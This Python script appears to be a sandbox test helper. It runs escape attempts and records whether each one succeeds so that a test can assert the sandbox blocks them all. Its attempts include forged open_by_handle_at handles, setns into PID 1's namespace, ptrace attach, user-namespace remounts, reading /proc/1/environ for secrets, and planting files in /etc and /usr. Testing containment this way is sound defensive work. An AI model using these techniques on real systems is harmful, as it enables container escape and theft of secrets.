"""A hostile external reviewer: it tries every way out of the sandbox it knows and writes
what each attempt gave to ``OUT/report.json`` (``OUT`` is a writable grant), then prints
no finding. Run as ``python3 hostile_reviewer.py OUT DB_FILE OUTSIDE RO_GRANT``:

- ``DB_FILE``: the database's absolute path on the host (it must not be reachable);
- ``OUTSIDE``: a host file it must not be able to create;
- ``RO_GRANT``: a read-only grant it must not be able to write (``-`` for none).

Each attempt is recorded as ``["ok", what]`` or ``["failed", "ErrorName"]``; the test reads
the report and asserts none of the forbidden ones succeeded. Standard library only: it runs
with whatever Python the sandbox shows.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import platform
import struct
import sys
from collections.abc import Callable
from typing import Any

OUT, DB_FILE, OUTSIDE, RO_GRANT = sys.argv[1:5]
report: dict[str, list[Any]] = {}
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

# System call numbers of the two machines the sandbox supports.
NR = {
    "x86_64": {
        "mount": 165,
        "umount2": 166,
        "unshare": 272,
        "setns": 308,
        "ptrace": 101,
        "open_by_handle_at": 304,
        "name_to_handle_at": 303,
        "keyctl": 250,
        "bpf": 321,
        "perf_event_open": 298,
        "pivot_root": 155,
    },
    "aarch64": {
        "mount": 40,
        "umount2": 39,
        "unshare": 97,
        "setns": 268,
        "ptrace": 117,
        "open_by_handle_at": 265,
        "name_to_handle_at": 264,
        "keyctl": 219,
        "bpf": 280,
        "perf_event_open": 241,
        "pivot_root": 41,
    },
}[platform.machine()]


def attempt(name: str, action: Callable[[], Any]) -> None:
    try:
        report[name] = ["ok", action()]
    except Exception as exc:  # what failed, and how, is the point
        report[name] = ["failed", type(exc).__name__ + _errno(exc)]


def _errno(exc: BaseException) -> str:
    code = getattr(exc, "errno", None)
    return f":{errno.errorcode.get(code, code)}" if code else ""


def syscall(name: str, *args: Any) -> int:
    result = int(libc.syscall(NR[name], *args))
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def read(path: str) -> str:
    with open(path, "rb") as handle:
        return handle.read(4096).decode("latin-1")


def write(path: str) -> str:
    with open(path, "w") as handle:
        handle.write("planted")
    return path


def status() -> dict[str, str]:
    fields = {}
    for line in read("/proc/self/status").splitlines():
        key, _, value = line.partition(":")
        fields[key] = value.strip()
    return {
        k: fields.get(k, "")
        for k in ("Uid", "CapEff", "CapPrm", "CapBnd", "CapAmb", "Seccomp", "NoNewPrivs")
    }


def databases() -> list[str]:
    """Every SQLite file on the sandbox's filesystem (the host's system folders aside)."""
    skip = {"proc", "sys", "dev", "usr", "bin", "sbin", "lib", "lib32", "lib64", "libx32"}
    found = []
    for root, dirs, files in os.walk("/"):
        if root == "/":
            dirs[:] = [d for d in dirs if d not in skip]
        found += [
            os.path.join(root, f)
            for f in files
            if f.endswith(
                (".sqlite", ".sqlite-wal", ".sqlite-shm", ".sqlite-journal", ".sqlite-writers")
            )
        ]
    return found


def by_handle() -> str:
    """open_by_handle_at with a forged handle of the root inode of the filesystem a mount
    comes from (ext4 and xfs number it 2; btrfs 256): the classic escape."""
    fd = os.open("/usr", os.O_RDONLY)
    last: OSError | None = None
    try:
        for inode in (2, 256, 128):
            handle = struct.pack("=Ii", 8, 1) + struct.pack("=II", inode, 0)
            buf = ctypes.create_string_buffer(handle)
            try:
                opened = syscall("open_by_handle_at", fd, buf, os.O_RDONLY | os.O_DIRECTORY)
            except OSError as exc:
                last = exc
                continue
            return f"inode {inode}: " + ",".join(sorted(os.listdir(f"/proc/self/fd/{opened}")))
    finally:
        os.close(fd)
    assert last is not None
    raise last


def name_to_handle() -> str:
    buf = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + b"\0" * 128)
    mount_id = ctypes.c_int()
    syscall("name_to_handle_at", -100, b"/usr", buf, ctypes.byref(mount_id), 0)
    return "got a handle"


MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096


def remount_writable(target: str) -> str:
    syscall("mount", b"none", target.encode(), None, MS_REMOUNT | MS_BIND, None)
    return write(os.path.join(target, "planted-after-remount"))


def new_user_namespace_then_mount() -> str:
    syscall("unshare", 0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
    return remount_writable("/usr")


def clone_new_user_namespace() -> str:
    pid = int(
        libc.syscall(56 if platform.machine() == "x86_64" else 220, 0x10000000 | 17, 0, 0, 0, 0)
    )
    if pid == 0:
        os._exit(0)
    if pid < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    os.waitpid(pid, 0)
    return f"child {pid} in a new user namespace"


def setns_host() -> str:
    fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    try:
        syscall("setns", fd, 0)
    finally:
        os.close(fd)
    return ",".join(os.listdir("/"))


def trace(pid: int) -> str:
    syscall("ptrace", 16, pid, 0, 0)  # PTRACE_ATTACH
    return f"attached to {pid}"


attempt("status", status)
attempt("hostname", lambda: read("/proc/sys/kernel/hostname").strip())
attempt("pids", lambda: sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
attempt("proc1_environ", lambda: read("/proc/1/environ"))
attempt("parent_environ", lambda: read(f"/proc/{os.getppid()}/environ"))
# The database by every path: as named, relative to the run folder, through /proc roots.
for suffix in ("", "-wal", "-shm"):
    attempt("db" + suffix, lambda s=suffix: read(DB_FILE + s))
    attempt("db_relative" + suffix, lambda s=suffix: read("../../db/db.sqlite" + s))
attempt("db_proc1_root", lambda: read("/proc/1/root" + DB_FILE))
attempt("db_self_root", lambda: read("/proc/self/root" + DB_FILE))
attempt("db_parent_root", lambda: read(f"/proc/{os.getppid()}/root" + DB_FILE))
attempt("db_anywhere", databases)
attempt("backups", lambda: sorted(os.listdir("../../db/migrations/.backups")))
# Privileged calls: each must be refused.
attempt("open_by_handle_at", by_handle)
attempt("name_to_handle_at", name_to_handle)
attempt("remount_usr", lambda: remount_writable("/usr"))
if RO_GRANT != "-":
    attempt("remount_ro_grant", lambda: remount_writable(RO_GRANT))
attempt("mount_tmpfs", lambda: syscall("mount", b"none", b"/mnt", b"tmpfs", 0, None))
attempt("umount_backups", lambda: syscall("umount2", b"../../db/migrations/.backups", 2))
attempt("unshare_user_then_remount", new_user_namespace_then_mount)
attempt("clone_user_namespace", clone_new_user_namespace)
attempt("setns_pid1_mnt", setns_host)
attempt("ptrace_pid1", lambda: trace(1))
attempt("ptrace_parent", lambda: trace(os.getppid()))
attempt("keyctl", lambda: syscall("keyctl", 0, -3, 0))  # KEYCTL_GET_KEYRING_ID, session
attempt("bpf", lambda: syscall("bpf", 0, None, 0))
attempt("perf_event_open", lambda: syscall("perf_event_open", None, 0, -1, -1, 0))
# Writes outside the run folder and the writable grants never reach the host.
attempt("write_outside", lambda: write(OUTSIDE))
attempt("write_usr", lambda: write("/usr/planted"))
attempt("write_etc", lambda: write("/etc/planted"))
attempt("write_db_folder", lambda: write("../../db/planted"))
if RO_GRANT != "-":
    attempt("write_ro_grant", lambda: write(os.path.join(RO_GRANT, "planted")))
attempt("write_root", lambda: write("/planted"))
attempt("write_beside_a_grant", lambda: write(os.path.join(os.path.dirname(OUT), "planted")))
attempt("write_dev", lambda: write("/dev/planted"))
attempt("write_run_folder", lambda: write("planted"))

with open(os.path.join(OUT, "report.json"), "w") as handle:
    json.dump(report, handle)
print("[]")
